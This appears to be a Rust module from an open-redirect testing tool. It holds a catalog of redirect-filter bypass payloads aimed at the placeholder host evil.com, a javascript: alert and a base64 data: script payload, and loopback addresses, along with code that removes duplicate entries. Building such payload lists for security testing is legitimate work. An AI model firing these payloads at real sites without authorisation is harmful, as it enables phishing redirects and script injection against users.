//! Built-in redirect destinations and the de-duplicated payload catalog

use std::collections::HashSet;

/// Candidate attacker destinations, grouped by the filter weakness they target
const BUILTIN_PAYLOADS: &[&str] = &[
    // Basic
    "https://evil.com",
    "//evil.com",
    "https:evil.com",
    "http://evil.com",
    // Userinfo and encoded-dot confusion with an allowed host
    "https://google.com@evil.com",
    "https://evil.com%2Egoogle.com",
    "https://evil.com%252Egoogle.com",
    "https://evil.com%23.google.com",
    "https://evil.com%09.google.com",
    // Ideographic full stop
    "https://evil%E3%80%82com",
    // Non-HTTP schemes
    "javascript:alert(document.domain)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+",
    r"\/\/evil.com",
    "/%09/evil.com",
    "http:evil.com",
    // Backslashes
    r"http:\\evil.com",
    r"http:\\evil.com\",
    r"http:\/\/evil.com",
    // /@/
    "https://google.com/@evil.com",
    "https://evil.com%2f@google.com",
    // Domain confusion
    "https://evil.com.google.com",
    "https://google.com.evil.com",
    "https://google.com%40evil.com",
    // Whitespace
    "https://evil.com/favicon.ico%20%23",
    "https://evil.com/%20/google.com",
    "https://evil.com%09.google.com",
    // Trailing dots
    "https://evil.com.",
    "https://evil.com。",
    // Path traversal
    "https://evil.com/..;/google.com",
    // Query and fragment confusion
    "https://evil.com?google.com",
    "https://evil.com&google.com",
    "https://evil.com#google.com",
    // Obscure protocols
    "gopher://evil.com",
    "ftp://evil.com",
    // Loopback
    "https://127.0.0.1",
    "https://0.0.0.0",
    "https://localhost",
    "https://[::1]",
    // Pre-encoded
    "https%253A%252F%252Fevil.com",
    // IDN and homoglyphs
    "https://xn--80ak6aa92e.com",
    "https://evil.c%D0%BEm",
    r"https:/\/\evil.com",
    // CRLF
    "https://evil.com%0D%0A",
    "https://evil.com%0A",
    // Scheme stacking
    "https://https://evil.com",
    "@evil.com",
    ";@evil.com",
    "https://evil.com;.google.com",
];

/// Ordered, de-duplicated payload list; first occurrence wins
#[derive(Debug, Clone)]
pub struct PayloadCatalog {
    payloads: Vec<String>,
}

impl PayloadCatalog {
    pub fn builtin() -> Self {
        Self::from_entries(BUILTIN_PAYLOADS.iter().map(|p| p.to_string()))
    }

    pub fn from_entries<I: IntoIterator<Item = String>>(entries: I) -> Self {
        let mut catalog = Self {
            payloads: Vec::new(),
        };
        catalog.extend(entries);
        catalog
    }

    /// Append custom payloads, skipping any already present
    pub fn extend<I: IntoIterator<Item = String>>(&mut self, entries: I) {
        let mut seen: HashSet<String> = self.payloads.iter().cloned().collect();
        for entry in entries {
            if seen.insert(entry.clone()) {
                self.payloads.push(entry);
            }
        }
    }

    pub fn payloads(&self) -> &[String] {
        &self.payloads
    }

    pub fn len(&self) -> usize {
        self.payloads.len()
    }
}
